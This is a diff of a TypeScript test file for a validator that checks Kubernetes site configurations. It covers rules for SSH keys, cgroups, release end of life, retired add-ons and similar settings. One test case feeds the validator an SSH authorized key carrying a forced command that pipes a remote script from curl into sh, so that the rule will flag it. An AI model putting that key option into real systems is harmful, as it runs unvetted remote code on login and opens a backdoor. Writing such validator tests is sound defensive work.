@@ -1,7 +1,7 @@
 import test from 'ava';
 import type { Catalog } from '../../generator/model/index.js';
 import { RULES, checkRules, type WrittenSite } from '../../generator/site/index.js';
-import { loadDefaultCatalog } from '../helpers.js';
+import { loadDefaultCatalog, TODAY } from '../helpers.js';
 import { lab1 } from '../sites.js';
 
 let catalog: Catalog;
@@ -15,7 +15,7 @@ const ECDSA = 'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyN
 const RSA = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC9fZYcYeECxla59gdLYf18ftiBRqpQWp/lzNzKEowYs3jVEkLsbKx/7+4pb5vuvAziS6LEbs+IEQFMxfEaiDsunTMtTH+giFWJvTAhL81+Ic3vQ3Dyf/Q0G7jGbMolBK38FHFVV6YvaR0YD7irgug3qRHIknzB9oMH6ptBMfWlF9LvZYNsb0Ncs6hamwOvqNcmISkQ6+Qne0TG7jqsBbPBnVA5v8KMEL672WRXrABrTaakTb6OPRT3oU1QcKe330eXXAH6ZorK57jo2sXI1JsdiN/ZdKekK6HPrMZ18kGKb7I90L3GWwsXNOmlh1L1WNlCRLGyz7d3CIlPPxf6WNvT';
 const ED25519_BODY = ED25519.split(' ')[1]!;
 
-type Case = { mutate: (s: WrittenSite) => void; path: string; severity?: 'error' | 'warning' };
+type Case = { mutate: (s: WrittenSite) => void; path: string; severity?: 'error' | 'warning'; catalog?: (c: Catalog) => Catalog };
 const node = (s: WrittenSite, i: number) => s.spec.nodes[i]!;
 
 /** One violating change per rule, and the path the issue must name. */
@@ -129,6 +129,7 @@ const CASES: Record<string, Case[]> = {
     { mutate: (s) => (s.spec.os.sshAuthorizedKeys = [`command="curl -s https://raw.githubusercontent.com/x | sh" ${ED25519}`]), path: 'spec.os.sshAuthorizedKeys[0]' },
   ],
   'cgroup-v2-old-kubernetes': [{ mutate: (s) => (s.spec.kubernetes.version = 'v1.20.2'), path: 'spec.os', severity: 'warning' }],
+  'cgroup-v1-refused': [{ mutate: (s) => (s.spec.os.cgroupVersion = 1), path: 'spec.os.cgroupVersion' }],
   'kickstart-needs-rhel': [{ mutate: (s) => (s.spec.output.formats = ['tarball', 'kickstart']), path: 'spec.output.formats[1]', severity: 'warning' }],
   'os-packages-valid': [
     { mutate: (s) => (s.spec.os.packages = ['nfs-common', 'NFS_Common']), path: 'spec.os.packages[1]' },
@@ -154,10 +155,37 @@ const CASES: Record<string, Case[]> = {
       path: 'spec.os.version',
     },
   ],
+  'release-known-bad': [
+    {
+      mutate: () => {},
+      path: 'spec.kubernetes.version',
+      catalog: (c) => ({ ...c, releases: c.releases.map((r) => (r.version === 'v1.37.1' ? { ...r, knownBad: { reason: 'the pause image named here does not exist', hint: 'use another release' } } : r)) }),
+    },
+  ],
+  'proxy-mode-supported': [
+    { mutate: (s) => (s.spec.kubernetes.version = 'v1.20.2') && (s.spec.kubernetes.proxyMode = 'nftables'), path: 'spec.kubernetes.proxyMode' },
+    { mutate: (s) => (s.spec.kubernetes.proxyMode = 'ipvs'), path: 'spec.kubernetes.proxyMode', severity: 'warning' },
+  ],
+  'registry-mirrors-ignored': [
+    { mutate: (s) => (s.spec.kubernetes.version = 'v1.20.2') && (s.spec.containerRuntime.registryMirrors = { 'docker.io': ['https://registry.site.internal:5000'] }), path: 'spec.containerRuntime.registryMirrors', severity: 'warning' },
+  ],
+  'containerd-glibc': [
+    {
+      mutate: (s) => (s.spec.os.family = 'rhel'),
+      path: 'spec.os.family',
+      severity: 'warning',
+      catalog: (c) => ({ ...c, releases: c.releases.map((r) => (r.version === 'v1.37.1' ? { ...r, versions: Object.fromEntries(Object.entries(r.versions).filter(([k]) => k !== 'containerd-static')) } : r)) }),
+    },
+  ],
+  'addon-retired': [
+    { mutate: (s) => (s.spec.addons = ['coredns', 'dashboard']), path: 'spec.addons[1]', severity: 'warning' },
+    { mutate: (s) => (s.spec.addons = ['ingress-nginx']), path: 'spec.addons[0]', severity: 'warning' },
+  ],
+  'release-end-of-life': [{ mutate: (s) => (s.spec.kubernetes.version = 'v1.34.2'), path: 'spec.kubernetes.version', severity: 'warning' }],
 };
 
 test('lab1 breaks no rule', (t) => {
-  t.deepEqual(checkRules({ site: lab1(), catalog }), []);
+  t.deepEqual(checkRules({ site: lab1(), catalog, today: TODAY }), []);
 });
 
 test('what the input rules accept: real keys with options and comments, tz names, host names, unicast addresses', (t) => {
@@ -170,11 +198,11 @@ test('what the input rules accept: real keys with options and comments, tz names
   node(site, 0).dns = ['192.168.93.1', '127.0.0.53', '169.254.169.253'];
   for (const tz of ['UTC', 'Etc/UTC', 'Europe/Berlin', 'America/Port-au-Prince', 'America/Argentina/Buenos_Aires', 'Asia/Kolkata', 'Etc/GMT+5']) {
     site.spec.os.timezone = tz;
-    t.deepEqual(checkRules({ site, catalog }), [], tz);
+    t.deepEqual(checkRules({ site, catalog, today: TODAY }), [], tz);
   }
   node(site, 1).address = '10.1.2.3/8';
   node(site, 1).gateway = '10.0.0.1';
-  t.deepEqual(checkRules({ site, catalog }).filter((i) => i.rule === 'node-address-valid'), []);
+  t.deepEqual(checkRules({ site, catalog, today: TODAY }).filter((i) => i.rule === 'node-address-valid'), []);
 });
 
 test('no issue message repeats a password from a URL', (t) => {
@@ -182,7 +210,7 @@ test('no issue message repeats a password from a URL', (t) => {
   site.spec.artifacts.sources = { kubernetes: 'http://user:hunter2@mirror.local/k8s' };
   site.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'https://robot:hunter2@registry.local' };
   site.spec.containerRuntime = { registryMirrors: { 'docker.io': ['https://robot:hunter2@registry.local'] } };
-  const issues = checkRules({ site, catalog });
+  const issues = checkRules({ site, catalog, today: TODAY });
   t.is(issues.length, 3);
   t.false(JSON.stringify(issues).includes('hunter2'));
 });
@@ -202,7 +230,7 @@ for (const [rule, cases] of Object.entries(CASES)) {
     test(`rule ${rule} #${i + 1} reports ${c.path}`, (t) => {
       const site = lab1();
       c.mutate(site);
-      const issues = checkRules({ site, catalog }).filter((x) => x.rule === rule);
+      const issues = checkRules({ site, catalog: c.catalog ? c.catalog(catalog) : catalog, today: TODAY }).filter((x) => x.rule === rule);
       t.true(issues.length > 0, `rule ${rule} did not fire`);
       const hit = issues.find((x) => x.path === c.path);
       t.truthy(hit, `expected ${c.path}, got ${issues.map((x) => x.path).join(', ')}`);
@@ -216,18 +244,18 @@ test('rule addons-in-catalog reports an add-on whose images the catalog lacks', 
   const site = lab1();
   site.spec.addons = ['coredns', 'dashboard'];
   site.spec.network.plugin = 'calico';
-  const stripped: Catalog = { ...catalog, releases: catalog.releases.map((r) => ({ ...r, images: r.images.filter((im) => !im.when.addon?.startsWith('dash') && !im.when.network) })) };
-  const issues = checkRules({ site, catalog: stripped }).filter((x) => x.rule === 'addons-in-catalog');
+  const stripped: Catalog = { ...catalog, releases: catalog.releases.map((r) => ({ ...r, images: r.images.filter((im) => !im.when.addon?.startsWith('dash') && im.when.addon !== 'headlamp' && !im.when.network) })) };
+  const issues = checkRules({ site, catalog: stripped, today: TODAY }).filter((x) => x.rule === 'addons-in-catalog');
   t.deepEqual(issues.map((x) => x.path).sort(), ['spec.addons[1]', 'spec.network.plugin']);
   site.spec.network.plugin = 'bridge';
-  t.deepEqual(checkRules({ site, catalog: stripped }).filter((x) => x.rule === 'addons-in-catalog').map((x) => x.path), ['spec.addons[1]']);
+  t.deepEqual(checkRules({ site, catalog: stripped, today: TODAY }).filter((x) => x.rule === 'addons-in-catalog').map((x) => x.path), ['spec.addons[1]']);
 });
 
 test('an even etcd count is only a warning; an odd one is silent', (t) => {
   const site = lab1();
-  t.false(checkRules({ site, catalog }).some((x) => x.rule === 'etcd-count-odd'));
+  t.false(checkRules({ site, catalog, today: TODAY }).some((x) => x.rule === 'etcd-count-odd'));
   node(site, 2).roles = ['worker'];
-  const issues = checkRules({ site, catalog });
+  const issues = checkRules({ site, catalog, today: TODAY });
   t.true(issues.every((x) => x.severity === 'warning'));
 });
 
@@ -235,7 +263,7 @@ test('old Kubernetes on a host booted with cgroup v1 is not warned about', (t) =
   const site = lab1();
   site.spec.kubernetes.version = 'v1.20.2';
   site.spec.os.cgroupVersion = 1;
-  t.false(checkRules({ site, catalog }).some((x) => x.rule === 'cgroup-v2-old-kubernetes'));
+  t.false(checkRules({ site, catalog, today: TODAY }).some((x) => x.rule === 'cgroup-v2-old-kubernetes'));
 });
 
 test('a node subnet overlapping another node subnet is reported once, at the later node', (t) => {
@@ -244,6 +272,48 @@ test('a node subnet overlapping another node subnet is reported once, at the lat
   node(site, 1).gateway = '10.1.0.1';
   node(site, 2).address = '10.1.2.7/24';
   node(site, 2).gateway = '10.1.2.1';
-  const issues = checkRules({ site, catalog }).filter((x) => x.rule === 'cidrs-disjoint');
+  const issues = checkRules({ site, catalog, today: TODAY }).filter((x) => x.rule === 'cidrs-disjoint');
   t.deepEqual(issues.map((x) => x.path), ['spec.nodes[2].address']);
+});
+
+test('end of life: silent beyond 60 days, a countdown within them, past it a warning naming the newest supported minor', (t) => {
+  const site = lab1();
+  const eol = (today: string) => checkRules({ site, catalog, today: new Date(today) }).filter((x) => x.rule === 'release-end-of-life');
+  t.deepEqual(eol('2026-11-28T12:00:00Z'), [], 'lab1 (1.37, end of life 2027-10-28) is not warned about today');
+  t.deepEqual(eol('2027-08-28T00:00:00Z'), [], '61 days ahead: silent');
+  const soon = eol('2027-08-29T23:00:00Z');
+  t.is(soon.length, 1);
+  t.regex(soon[0]!.message, /1\.37 reaches its end of life on 2027-10-28, in 60 days/);
+  const past = eol('2027-10-29T00:00:00Z');
+  t.regex(past[0]!.message, /reached its end of life on 2027-10-28/);
+  t.regex(past[0]!.hint!, /no supported release/, 'once every minor of the catalog has ended, the hint says so');
+
+  site.spec.kubernetes.version = 'v1.34.2';
+  const old = eol('2026-11-28T12:00:00Z');
+  t.is(old[0]!.severity, 'warning');
+  t.regex(old[0]!.message, /Kubernetes 1\.34 reached its end of life on 2026-10-27/);
+  t.regex(old[0]!.hint!, /newest supported minor is 1\.37 \(v1\.37\.1 in this catalog\); upgrade one minor at a time: v1\.35\.9 first/);
+  site.spec.kubernetes.version = 'v1.20.2';
+  t.regex(eol('2026-11-28T12:00:00Z')[0]!.hint!, /1\.21 next, which this catalog does not hold/);
+});
+
+test('a known-bad release is an error whatever the date; a release of a minor without lifecycle data is not warned about', (t) => {
+  const site = lab1();
+  const bad: Catalog = { ...catalog, releases: catalog.releases.map((r) => (r.version === 'v1.37.1' ? { ...r, knownBad: { reason: 'r', hint: 'h' } } : r)) };
+  const issues = checkRules({ site, catalog: bad, today: TODAY }).filter((x) => x.rule === 'release-known-bad');
+  t.deepEqual(issues.map((x) => [x.severity, x.hint]), [['error', 'h']]);
+  const noLife: Catalog = { ...catalog, lifecycle: {} };
+  site.spec.kubernetes.version = 'v1.34.2';
+  t.deepEqual(checkRules({ site, catalog: noLife, today: TODAY }).filter((x) => x.rule === 'release-end-of-life'), []);
+});
+
+test('dashboard: kept where the release still carries it, headlamp in its place where it does not; a warning either way', (t) => {
+  const site = lab1();
+  site.spec.addons = ['coredns', 'dashboard'];
+  const now = checkRules({ site, catalog, today: TODAY }).filter((x) => x.rule === 'addon-retired' || x.rule === 'addons-in-catalog');
+  t.deepEqual(now.map((x) => [x.rule, x.severity]), [['addon-retired', 'warning']]);
+  t.regex(now[0]!.message, /archived in January 2026: v1\.37\.1 installs headlamp in its place/);
+  site.spec.kubernetes.version = 'v1.34.2';
+  const old = checkRules({ site, catalog, today: TODAY }).filter((x) => x.rule === 'addon-retired');
+  t.notRegex(old[0]!.message, /in its place/);
 });
